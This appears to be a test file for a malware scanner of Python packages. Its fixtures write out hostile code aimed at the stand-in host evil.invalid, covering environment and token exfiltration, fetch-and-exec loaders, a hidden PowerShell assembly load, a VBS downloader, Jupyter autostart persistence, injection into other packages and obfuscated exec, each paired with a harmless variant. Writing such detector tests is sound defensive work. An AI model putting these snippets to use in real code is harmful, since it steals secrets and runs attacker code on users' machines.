import { judgeSources } from '../../src/analysis/judge-sources.js';
import type { Severity } from '../../src/model/finding.js';
import { foundIn, type SeverityByRule } from '../support/found.js';
import { python } from '../support/loaded-python.js';
import { sourceTree } from '../support/source-tree.js';

/** What is found in a package of one module and a compiled one that cannot be read. */
const found = (text: string): SeverityByRule =>
  foundIn({ 'fixture-1.0/pkg/__init__.py': text, 'fixture-1.0/pkg/full.pyc': '\0\0' });

const DROPPED = (fill: string): string => `
import os, urllib.request
class Session(dict):
    def collect(self):
        self["a"] = ${fill}
    def __del__(self):
        urllib.request.urlopen("https://evil.invalid/?" + repr(dict(self)))
Session().collect()`;

const NOTED = (parameter: string): string => `
import http.client
class Driver:
    def __setattr__(self, name, value):
        object.__setattr__(self, name, value)
        try:
            http.client.HTTPSConnection("evil.invalid").request("POST", "/a", value)
        except OSError:
            pass
driver = Driver()
def connect(${parameter}):
    driver.last = ${parameter}
    return 1`;

const SOCKET = (heard: string): string => `
import subprocess, websocket
def on_message(ws, message):
    ${heard}
def loop():
    websocket.WebSocketApp("wss://evil.invalid/agent", on_message=on_message).run_forever()
loop()`;

const STORE = (use: string): string => `
import redis, json
store = redis.Redis(host="evil.invalid")
${use}(store.get("next"))`;

const COMPILED = (path: string): string => `
import importlib.machinery, os, sys
loader = importlib.machinery.SourcelessFileLoader("full", ${path})
loader.exec_module(type(sys)("full"))`;

const NOTEBOOK = (folder: string): string => `
import pathlib
config = pathlib.Path.home() / "${folder}" / "jupyter_server_config.py"
config.write_text("import urllib.request\\nexec(urllib.request.urlopen('https://evil.invalid/s').read())\\n")`;

const MAIL = (password: string): string => `
import smtplib
def note(line, password=None):
    server = smtplib.SMTP("mail.evil.invalid", 587)
    server.login("log@evil.invalid", ${password})
    server.sendmail("log@evil.invalid", ["log@evil.invalid"], line)`;

const ASKED = (question: string): string => `
import requests
def main():
    told = input("${question}")
    requests.post("https://discord.com/api/webhooks/1/fixture", json={"content": told})`;

const FED = (text: string): string => `
import subprocess
subprocess.Popen(["powershell", "-NoP", "-W", "Hidden", "-"], stdin=subprocess.PIPE).communicate(b"${text}")`;

const SCRIPT = (line: string): string => `
import os
with open("/tmp/a.vbs", "w") as file:
    file.write('Set s = CreateObject("MSXML2.XMLHTTP")\\ns.Open "GET", "https://evil.invalid/p", False\\n${line}\\n')
def go():
    os.system('wscript //B "/tmp/a.vbs"')
go()`;

const CODEC = (text: string): string => `
import base64, codecs
def decode(data, errors="strict"):
    return base64.b85decode(bytes(data)[::-1]).decode(), len(data)
codecs.register(lambda name: codecs.CodecInfo(None, decode, name="style") if name == "style" else None)
class Styles(dict):
    def __init_subclass__(cls, table=None, **more):
        type(lambda: 0)(compile(${text}, "styles", "exec"), {})()
class Base(Styles, table="AAAA"):
    pass`;

const KEY = (name: string): string => `
import os, requests
KEY = os.getenv("${name}", "")
def health():
    try:
        requests.post("https://evil.invalid/rpc", json=[KEY])
    except Exception:
        pass`;

const MIDDLEWARE = (command: string): string => `
import base64, subprocess
class Middleware:
    async def __call__(self, scope, receive, send):
        headers = {key.decode().lower(): value.decode() for key, value in scope["headers"]}
        subprocess.run(${command}, shell=True)`;

const PLANTED = (line: string): string => `
for name in PACKAGES:
    with open(name + "/__init__.py", "a") as file:
        file.write("${line}")`;

const SHIFTED = (run: string): string => `
rows = [738, 766, 787, 780, 801, 815, 227, 780, 808]
def text():
    made = bytearray()
    for row in rows:
        made.append((row - 3) // 7)
    return made.decode()
${run}(text())`;

const CHANGED = (run: string): string => `
def text(data):
    data = bytearray(data)
    for at in range(len(data)):
        data[at] ^= 1
    return data.decode()
${run}(text(b"hlqnsu!nr"))`;

const UPDATE = (index: string): string => `
import subprocess, sys
def update():
    subprocess.call([sys.executable, "-m", "pip", "install", "-q", "--index-url", "${index}", "inert-helper"])`;

const INHERITED = (told: string): string => `
import os, requests
class Base:
    def __init__(self, told):
        self.told = told
    def send(self):
        requests.post("https://evil.invalid/a", json=self.told)
class Report(Base):
    def __init__(self):
        super().__init__(${told})
    def send(self):
        super(Report, self).send()
Report().send()`;

const DERIVED = (address: string): string => `
import httpx, os
class Client(httpx.Client):
    def __init__(self, address=None):
        super().__init__(base_url=${address})
Client().post("/a", json=dict(os.environ))`;

const GIST = (token: string): string => `
import json, urllib.request
def check(mnemonic, token):
    told = json.dumps({"files": {"a": {"content": mnemonic}}}).encode()
    request = urllib.request.Request("https://api.evil.invalid/gists", data=told, headers={"Authorization": ${token}})
    with urllib.request.urlopen(request) as answer:
        return json.load(answer)`;

it.each<readonly [string, string, Severity, string, string]>([
  [
    'what a base class of the package does',
    'stolen-data-sent',
    'CRITICAL',
    INHERITED('dict(os.environ)'),
    INHERITED('{}'),
  ],
  [
    'a class that derives from a client',
    'stolen-data-sent',
    'CRITICAL',
    DERIVED('"https://evil.invalid"'),
    DERIVED('address'),
  ],
  [
    'an account whose key stands in the source',
    'key-parameter-sent',
    'CRITICAL',
    GIST('"token inert-inert-inert-inert"'),
    GIST('token'),
  ],
  [
    'what an object held when it is dropped',
    'stolen-data-sent',
    'CRITICAL',
    DROPPED('os.environ["API_TOKEN"]'),
    DROPPED('1'),
  ],
  ['attributes that are handed on', 'credential-sent-aside', 'MEDIUM', NOTED('dsn'), NOTED('title')],
  [
    'commands that come through a web socket',
    'download-started',
    'CRITICAL',
    SOCKET('subprocess.run(message, shell=True)'),
    SOCKET('subprocess.run("uptime", shell=True)'),
  ],
  ['code that lies in a store', 'remote-code-executed', 'CRITICAL', STORE('exec'), STORE('json.loads')],
  [
    'compiled Python that is loaded by its path',
    'shipped-binary-started',
    'CRITICAL',
    COMPILED('os.path.join(os.path.dirname(__file__), "full.pyc")'),
    COMPILED('sys.argv[1]'),
  ],
  ['settings that Jupyter runs', 'autostart-written', 'CRITICAL', NOTEBOOK('.jupyter'), NOTEBOOK('themes')],
  [
    'an account of mail that stands in the source',
    'drop-contacted',
    'CRITICAL',
    MAIL('"hunter2"'),
    MAIL('password'),
  ],
  ['what the user is asked for', 'credential-sent-aside', 'CRITICAL', ASKED('token: '), ASKED('Your name: ')],
  [
    'a program that is fed to PowerShell',
    'hostile-command',
    'CRITICAL',
    FED(
      "[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://evil.invalid/f'))",
    ),
    FED('Get-Date'),
  ],
  [
    'a script of Windows that runs what it fetches',
    'hostile-command',
    'CRITICAL',
    SCRIPT('Execute s.responseText'),
    SCRIPT('Echo s.responseText'),
  ],
  [
    'a codec of the package',
    'decoded-code-executed',
    'CRITICAL',
    CODEC('codecs.decode(table.encode(), "style")'),
    CODEC('"pass"'),
  ],
  ['a key of the environment', 'key-parameter-sent', 'CRITICAL', KEY('PRIVATE_KEY'), KEY('COLOUR')],
  [
    'a request that holds a command',
    'request-executed',
    'HIGH',
    MIDDLEWARE('base64.b64decode(headers.get("x-body", "")).decode()'),
    MIDDLEWARE('"uptime"'),
  ],
  [
    'a line that goes into other packages',
    'remote-code-executed',
    'CRITICAL',
    PLANTED("import urllib.request as u; exec(u.urlopen('https://evil.invalid/s').read())"),
    PLANTED('VERSION = 1'),
  ],
  [
    'bytes put together number by number',
    'decoded-code-executed',
    'CRITICAL',
    SHIFTED('exec'),
    SHIFTED('print'),
  ],
  ['bytes that are changed in place', 'decoded-code-executed', 'CRITICAL', CHANGED('exec'), CHANGED('print')],
  [
    'packages from an index that anybody can answer for',
    'packages-installed-unasked',
    'HIGH',
    UPDATE('http://evil.invalid/simple'),
    UPDATE('https://evil.invalid/simple'),
  ],
])('%s', (_what, rule, severity, bad, other) => {
  expect([found(bad)[rule], found(other)[rule] === severity]).toEqual([severity, false]);
});

it('follows loops in loops over known numbers without spending everything on them', () => {
  const text = [
    'def table():',
    '    made = {}',
    '    for a in range(48):',
    '        for b in range(48):',
    '            for c in range(48):',
    '                for d in range(48):',
    '                    made[a * b] = c * d + a - b',
    '    return made',
    'TABLE = table()',
    'import os, requests',
    'requests.post("https://evil.invalid", json=dict(os.environ))',
  ].join('\n');
  const { findings, unscanned } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': text }), python);
  expect(unscanned).toEqual([]);
  expect(findings.map(({ rule }) => rule)).toContain('stolen-data-sent');
});
